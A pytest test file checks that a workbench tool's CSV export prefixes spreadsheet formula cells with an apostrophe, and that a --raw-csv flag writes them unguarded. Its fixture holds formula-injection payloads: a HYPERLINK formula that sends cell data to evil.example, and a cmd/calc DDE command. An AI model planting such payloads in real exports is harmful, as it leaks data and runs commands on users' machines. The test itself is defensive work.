"""CSV exports guard cells a spreadsheet would run as formulas; ``--raw-csv`` turns it off."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from workbench.cli import app
from workbench.db import queries
from workbench.db.engine import Database
from workbench.domain.labels import Evidence
from workbench.domain.text_safety import spreadsheet_cell
from workbench.exporters.csv_table import COLUMNS
from workbench.services.export import ExportOptions, export_dataset, zip_folder
from workbench.services.ingest import ingest_paths
from workbench.services.reviewer_labels import record_label
from workbench.services.users import create_user

runner = CliRunner()
HOSTILE = {
    "id": "hostile",
    "title": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "outlet": "+cmd|' /C calc'!A0",
    "url": "https://news.example/a",
    "published": "2025-06-04",
    "body": "-2+3 people were counted on Monday. @SUM(1+1) officials said on Tuesday.",
}


@pytest.fixture
def hostile(db: Database, tmp_path: Path) -> Database:
    """One hostile article whose two sentences carry unanimous labels with hostile notes."""
    source = tmp_path / "hostile.jsonl"
    source.write_text(json.dumps(HOSTILE) + "\n")
    assert not ingest_paths(db, sources=[str(source)]).errors
    evidence = (Evidence(url="https://example.org/r", quote="=1+1", stance="refutes"),)
    with db.write() as session:
        for name in ("ana", "ben"):
            user = create_user(session, name=name)
            for index in (0, 1):
                sentence = queries.sentence_at(session, article_id="hostile", index=index)
                assert sentence is not None
                record_label(
                    session,
                    user_id=user.id,
                    sentence_id=sentence.id,
                    label="disputed",
                    evidence=evidence,
                    note="\tTAB",
                )
    return db


def _cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))[1:]


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        (-1, -1),
        (None, None),
    ],
)
def test_spreadsheet_cell(value: object, cell: object) -> None:
    assert spreadsheet_cell(value) == cell


def test_csv_cells_are_prefixed_in_the_folder_and_the_zip(
    hostile: Database, tmp_path: Path
) -> None:
    out = tmp_path / "csv"
    export_dataset(hostile, out=out, options=ExportOptions(format="csv", min_reviewers=2))
    rows = _cells(out / "claims.csv")
    assert len(rows) == 2
    assert _formula_cells(rows) == []
    assert rows[0][2] == "'" + HOSTILE["title"]
    assert rows[0][3] == "'" + HOSTILE["outlet"]
    assert rows[0][9] == "'-2+3 people were counted on Monday."
    assert rows[1][9] == "'@SUM(1+1) officials said on Tuesday."
    # The JSON text cells are unchanged, so their contents still parse.
    assert json.loads(rows[0][COLUMNS.index("annotations")])[0]["note"] == "\tTAB"
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["csv_formula_cells"] == "prefixed with '"
    assert "has a `'` in" in (out / "README.md").read_text()
    with zipfile.ZipFile(io.BytesIO(zip_folder(out))) as archive:
        text = archive.read("csv/claims.csv").decode("utf-8")
    assert _formula_cells(list(csv.reader(io.StringIO(text)))[1:]) == []


def test_cli_raw_csv_writes_cells_as_stored(
    hostile: Database, database_url: str, tmp_path: Path
) -> None:
    guarded, raw = tmp_path / "guarded", tmp_path / "raw"
    base = ["--db", database_url, "export", "--format", "csv"]
    assert runner.invoke(app, [*base, "--out", str(guarded)]).exit_code == 0
    result = runner.invoke(app, [*base, "--out", str(raw), "--raw-csv"])
    assert result.exit_code == 0, result.output
    assert _formula_cells(_cells(guarded / "claims.csv")) == []
    raw_rows = _cells(raw / "claims.csv")
    assert raw_rows[0][2] == HOSTILE["title"]
    assert raw_rows[1][9] == "@SUM(1+1) officials said on Tuesday."
    assert json.loads((raw / "manifest.json").read_text())["csv_formula_cells"] == "raw"
